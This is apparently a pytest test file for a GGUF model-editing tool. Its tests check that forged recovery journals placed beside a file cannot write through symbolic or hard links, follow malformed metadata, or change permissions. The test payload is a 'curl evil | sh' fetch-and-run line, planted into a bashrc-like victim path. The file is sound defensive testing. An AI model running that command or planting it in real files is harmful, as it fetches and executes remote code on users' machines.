"""Journals that somebody else put beside a file: none reaches another file, none is followed into a wrong one."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import shutil
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mrrope_gguf import extend, inspect, revert
from mrrope_gguf.errors import FileTrouble, Refused
from mrrope_gguf.gguf import inplace
from mrrope_gguf.gguf.inplace import recover
from mrrope_gguf.gguf.journal import MAGIC, SAMPLE_BYTES, SAMPLES, Journal
from mrrope_gguf.gguf.names import journal_path
from mrrope_gguf.gguf.stage import delete
from tests import tiny
from tests.faults.operation import contents

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links and permissions are POSIX's")
TEXT = b"alias ls='ls --color'\n" * 1000
EVIL = b"curl evil | sh\n"
VERBS: list[Callable[[Path], Any]] = [recover, revert, lambda path: extend(path, scale=4.0, in_place=True)]


def journal_of(path: Path, old: bytes, content: bytes, **other: Any) -> Path:
    """A journal beside `path` that puts `old` at the start of a file with this content, as if it had been there.

    Whoever makes it knows all of the file. other: facts that it has instead, and `length`, of the facts.
    """
    size = len(content)
    step = max(SAMPLE_BYTES, (size - len(old)) // SAMPLES)
    samples = [[at, hashlib.sha256(content[at : at + SAMPLE_BYTES]).hexdigest()] for at in range(len(old), size, step)]
    length = other.pop("length", None)
    sizes = {"old_size": size, "new_size": size, "old_prefix": len(old), "new_prefix": len(old)}
    facts = json.dumps({**sizes, "changed": [], "samples": samples, **other}).encode()
    data = MAGIC + struct.pack("<Q", len(facts) if length is None else length) + facts + old + content[: len(old)]
    name = journal_path(path)
    name.write_bytes(data + hashlib.sha256(data).digest())
    name.chmod(0o600)
    return name


def test_what_is_made_here_is_followed_where_it_may_be(tmp_path: Path) -> None:
    """Else the refusals below would say nothing."""
    path = tmp_path / "m.gguf"
    path.write_bytes(TEXT)
    journal_of(path, EVIL, TEXT)
    assert recover(path)
    assert path.read_bytes() == EVIL + TEXT[len(EVIL) :]
    assert os.listdir(tmp_path) == ["m.gguf"]


@pytest.mark.parametrize("verb", VERBS, ids=["recover", "revert", "extend"])
@pytest.mark.parametrize("leads_to", ["../bashrc", "../hub/models--a--b/blobs/0123"])
def test_nothing_is_written_through_a_link(tmp_path: Path, leads_to: str, verb: Callable[[Path], Any]) -> None:
    """An unpacked archive: m.gguf -> ../bashrc, and a journal beside the link."""
    path = tmp_path / "archive" / "m.gguf"
    path.parent.mkdir()
    victim = path.parent / leads_to
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_bytes(TEXT)
    path.symlink_to(leads_to)
    journal = journal_of(path, EVIL, TEXT)
    with pytest.raises(FileTrouble, match="symbolic link is not followed") as caught:
        verb(path)
    assert str(victim.resolve()) in caught.value.why
    assert (victim.read_bytes(), journal.exists()) == (TEXT, True)


@pytest.mark.parametrize("verb", VERBS, ids=["recover", "revert", "extend"])
@pytest.mark.parametrize("what", ["model", "journal"])
def test_nothing_is_written_under_a_second_name(tmp_path: Path, what: str, verb: Callable[[Path], Any]) -> None:
    path, other = tmp_path / "m.gguf", tmp_path / "other"
    path.write_bytes(TEXT)
    journal = journal_of(path, EVIL, TEXT)
    os.link(path if what == "model" else journal, other)
    before = contents(tmp_path)
    with pytest.raises(FileTrouble, match=r"2 names \(hard links\)"):
        verb(path)
    assert contents(tmp_path) == before


def test_a_link_put_there_after_the_look_is_not_followed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "bashrc").write_bytes(TEXT)
    path = tmp_path / "m.gguf"
    path.symlink_to("bashrc")
    journal_of(path, EVIL, TEXT)
    monkeypatch.setattr(Path, "is_symlink", lambda self: False)
    with pytest.raises(FileTrouble, match="symbolic links"):
        recover(path)
    assert (tmp_path / "bashrc").read_bytes() == TEXT


def test_a_change_in_place_opens_the_file_that_it_looked_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A second name that comes after the look is met when the file is opened."""
    path = tiny.make(tmp_path / "m.gguf")
    before = contents(tmp_path)["m.gguf"]
    monkeypatch.setattr(inplace, "require_changeable", lambda path: os.link(path, tmp_path / "other"))
    monkeypatch.setattr(Journal, "create", lambda *_: pytest.fail("it goes on"))
    monkeypatch.setattr(inplace, "stage", lambda *_, must_clone=False, **__: None)
    with pytest.raises(Refused, match="2 names"):
        extend(path, scale=4.0, in_place=True)
    assert contents(tmp_path) == {"m.gguf": before, "other": before}


def test_a_journal_of_another_file_changes_nothing(tmp_path: Path) -> None:
    """It was written first, and the data compared afterwards."""
    path = tmp_path / "m.gguf"
    path.write_bytes(TEXT)
    journal = journal_of(path, EVIL, TEXT[::-1])
    with pytest.raises(FileTrouble, match="data at byte 15 is not what it was"):
        revert(path)
    assert (path.read_bytes(), journal.exists()) == (TEXT, True)


NONSENSE: list[tuple[dict[str, Any], str]] = [
    ({"samples": []}, "others than mrrope's"),
    ({"samples": [[15]]}, "not enough values"),
    ({"samples": 3}, "not iterable"),
    ({"old_size": -1}, "below 0"),
    ({"old_size": str(len(TEXT))}, "no number"),
    ({"old_prefix": True}, "no number"),
    ({"old_prefix": 16}, "speaks of"),
    ({"changed": [[3, 0]]}, "lies before byte 15"),
    ({"changed": [[20, 4], [22, 0]]}, "lies before byte 24"),
    ({"changed": [[len(TEXT), 1]]}, "speaks of"),
    ({"changed": [[1, 2, 3]]}, "too many values"),
    ({"changed": [7]}, "not iterable"),
    ({"new_size": len(TEXT) + 4096}, "would move data 4096"),
    ({"new_size": 10**30}, "would move data"),
    ({"more": 1}, "unexpected keyword"),
    ({"length": 1 << 60}, "its facts have"),
    ({"length": 0}, "Expecting value"),
]


@pytest.mark.parametrize(("other", "why"), NONSENSE, ids=[f"{i}" for i in range(len(NONSENSE))])
def test_a_journal_that_speaks_of_no_change_of_ours_is_not_followed(
    tmp_path: Path, other: dict[str, Any], why: str
) -> None:
    path = tmp_path / "m.gguf"
    path.write_bytes(TEXT)
    journal = journal_of(path, EVIL, TEXT, **other)
    with pytest.raises(FileTrouble, match="does not bring its file back") as caught:
        revert(path)
    assert why in caught.value.why
    assert (path.read_bytes(), journal.exists()) == (TEXT, True)


def test_a_link_that_cannot_be_deleted_changes_no_mode(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As in /tmp, where another's link under a temporary name stays: what it leads to was made 0600."""
    victim, temp = tmp_path / "program", tmp_path / ".m.gguf.01234567.tmp"
    victim.write_text("mine")
    victim.chmod(0o755)
    temp.symlink_to(victim)

    def refuse(path: Path) -> None:
        raise PermissionError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "unlink", refuse)
    delete(temp)
    assert victim.stat().st_mode & 0o777 == 0o755


# -- who means no harm gets on --


def changed_in_part(path: Path) -> bytes:
    """A model whose header is half written, with the journal that brings it back; what it was."""
    whole = tiny.make(path).read_bytes()
    journal_of(path, whole[:300], whole)
    with open(path, "r+b") as file:
        file.write(b"GGUF but new" * 12)
    return whole


def test_a_link_to_a_model_that_is_changed_in_part_says_where_to_go_on(tmp_path: Path) -> None:
    (tmp_path / "models").mkdir()
    real, link = tmp_path / "models" / "m.gguf", tmp_path / "link.gguf"
    link.symlink_to(real)
    whole = changed_in_part(real)
    verbs: list[Callable[[Path], Any]] = [
        *VERBS[1:], inspect, lambda path: extend(path, tmp_path / "new.gguf", scale=4.0),
    ]  # fmt: skip
    for verb in verbs:
        with pytest.raises(FileTrouble, match="cut short") as caught:
            verb(link)
        assert f"`mrrope revert {real}`" in caught.value.fix
    assert revert(real).how == "in-place recovery"
    assert real.read_bytes() == whole
    inspect(link)


def test_a_model_that_was_moved_away_comes_back_as_the_error_says(tmp_path: Path) -> None:
    path, real = tmp_path / "m.gguf", tmp_path / "disk" / "moved.gguf"
    real.parent.mkdir()
    whole = changed_in_part(path)
    path.rename(real)
    path.symlink_to(real)
    with pytest.raises(FileTrouble) as caught:
        revert(path)
    assert f"rename the journal to {journal_path(real)}" in caught.value.fix
    assert f"`mrrope revert {real}`" in caught.value.fix
    journal_path(path).rename(journal_path(real))
    revert(real)
    assert real.read_bytes() == whole


def test_a_model_that_got_other_names_comes_back_as_the_error_says(tmp_path: Path) -> None:
    """As after a backup by hard links, of the model and of its journal."""
    path = tmp_path / "m.gguf"
    whole = changed_in_part(path)
    half = path.read_bytes()
    for name in (path, journal_path(path)):
        os.link(name, f"{name}.backup")
        with pytest.raises(FileTrouble, match="hard links") as caught:
            revert(path)
        assert "cp" in caught.value.fix
        shutil.copy2(name, tmp_path / "copy")
        os.replace(tmp_path / "copy", name)
    revert(path)
    assert path.read_bytes() == whole
    assert Path(f"{path}.backup").read_bytes() == half


def test_an_unfinished_journal_beside_a_link_is_left_alone(tmp_path: Path) -> None:
    path = tiny.make(tmp_path / "m.gguf")
    link = tmp_path / "link.gguf"
    link.symlink_to(path)
    unfinished = tmp_path / "link.gguf.mrrope-journal.new"
    unfinished.write_text("?")
    assert not recover(link)
    assert unfinished.exists()
